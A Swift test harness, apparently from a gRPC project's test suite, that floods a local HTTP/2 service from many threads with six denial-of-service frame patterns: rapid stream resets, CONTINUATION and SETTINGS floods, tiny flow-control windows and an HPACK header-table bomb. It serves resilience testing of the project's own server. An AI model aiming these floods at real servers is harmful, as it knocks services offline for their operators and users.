import Glibc
import Synchronization
import TestGRPC
import TestPeers

private typealias F = HTTP2Frames

/// Connections that send frames of one kind until it is time to end.
final class Attack: Sendable {
    static let kinds = [
        "reset", "reset-calls", "continuation", "settings", "tiny-windows", "header-bomb",
    ]

    let frames = Atomic<Int>(0)
    let connections = Atomic<Int>(0)
    private let path: String
    private let kind: String
    private let end: ContinuousClock.Instant
    /// The first batches of a connection, made once so that an attacker costs little itself.
    private let batches: [(bytes: [UInt8], frames: Int)]

    init(_ kind: String, on path: String, seconds: Double) {
        (self.path, self.kind) = (path, kind)
        batches = Self.kinds.contains(kind) ? (0..<100).map { Self.batch(kind, $0) } : []
        end = .now + .seconds(seconds)
    }

    /// Runs on a thread for each connection, to the end.
    func run(threads count: Int) {
        let threads = (0..<count).map { _ in
            var thread = pthread_t()
            pthread_create(
                &thread, nil,
                { attack in
                    Unmanaged<Attack>.fromOpaque(attack!).takeUnretainedValue().runConnection()
                    return nil
                }, Unmanaged.passUnretained(self).toOpaque())
            return thread
        }
        for thread in threads { pthread_join(thread, nil) }
    }

    private func runConnection() {
        guard !batches.isEmpty else {
            while ContinuousClock.now < end {}
            return
        }
        var received = [UInt8](repeating: 0, count: 1 << 16)
        while ContinuousClock.now < end {
            guard let descriptor = try? connectPatiently(to: path) else { continue }
            connections.add(1, ordering: .relaxed)
            var bytes = F.preface + F.frame(F.settings)
            var (i, sent, count) = (0, 0, 1)
            while ContinuousClock.now < end {
                let step = bytes.withUnsafeBytes {
                    send(descriptor, $0.baseAddress! + sent, $0.count - sent, Int32(MSG_NOSIGNAL))
                }
                guard step > 0 else { break }
                sent += step
                while recv(descriptor, &received, received.count, Int32(MSG_DONTWAIT)) > 0 {}
                guard sent == bytes.count else { continue }
                frames.add(count, ordering: .relaxed)
                (bytes, count) = i < batches.count ? batches[i] : Self.batch(kind, i)
                (i, sent) = (i + 1, 0)
            }
            close(descriptor)
        }
    }

    /// What a connection sends after its SETTINGS: the i-th batch, and how many frames that is.
    private static func batch(_ kind: String, _ i: Int) -> (bytes: [UInt8], frames: Int) {
        let score = F.requestFields(path: "/sidecart.v1.Scoring/Score")
        let recommend = F.requestFields(path: "/sidecart.v1.Scoring/Recommend")
        var bytes: [UInt8] = []
        func stream(_ j: Int) -> UInt32 {
            UInt32(truncatingIfNeeded: 2 * (i * 100 + j) + 1) & 0x7FFF_FFFF
        }
        switch kind {
        case "reset":
            for j in 0..<100 {
                bytes += F.frame(F.headers, flags: F.endHeaders, stream: stream(j), score)
                bytes += F.frame(F.reset, stream: stream(j), F.bigEndian(8))
            }
            return (bytes, 200)
        case "reset-calls":
            for j in 0..<100 {
                bytes += F.frame(F.headers, flags: F.endHeaders, stream: stream(j), score)
                bytes += F.frame(
                    F.data, flags: F.endStream, stream: stream(j), F.message([0x12, 1, 97]))
                bytes += F.frame(F.reset, stream: stream(j), F.bigEndian(8))
            }
            return (bytes, 300)
        case "continuation":
            if i == 0 { bytes = F.frame(F.headers, stream: 1, score) }
            for _ in 0..<100 { bytes += F.frame(F.continuation, stream: 1, F.fields([("a", "b")])) }
            return (bytes, 100)
        case "settings":
            for _ in 0..<100 { bytes += F.frame(F.settings) }
            return (bytes, 100)
        case "tiny-windows":
            if i == 0 {
                bytes = F.frame(F.settings, F.setting(4, 1))
                bytes += F.frame(F.headers, flags: F.endHeaders, stream: 1, recommend)
                // As many items as a call may ask for.
                bytes += F.frame(
                    F.data, flags: F.endStream, stream: 1, F.message([0x10, 0xE8, 0x07]))
            }
            for _ in 0..<100 { bytes += F.frame(F.windowUpdate, stream: 1, F.bigEndian(1)) }
            return (bytes, 100)
        case "header-bomb":
            // One field of 4 KB goes into the table, and is then named by one byte each time.
            let value = [UInt8](repeating: UInt8(ascii: "x"), count: 4_000)
            let literal: [UInt8] = [0x40, 1, UInt8(ascii: "a"), 0x7F, 0xA1, 0x1E] + value
            bytes = F.frame(
                F.headers, flags: F.endHeaders | F.endStream, stream: stream(0),
                score + literal + [UInt8](repeating: 0xBE, count: 10_000))
            return (bytes, 1)
        default: preconditionFailure("there is no kind '\(kind)'")
        }
    }
}
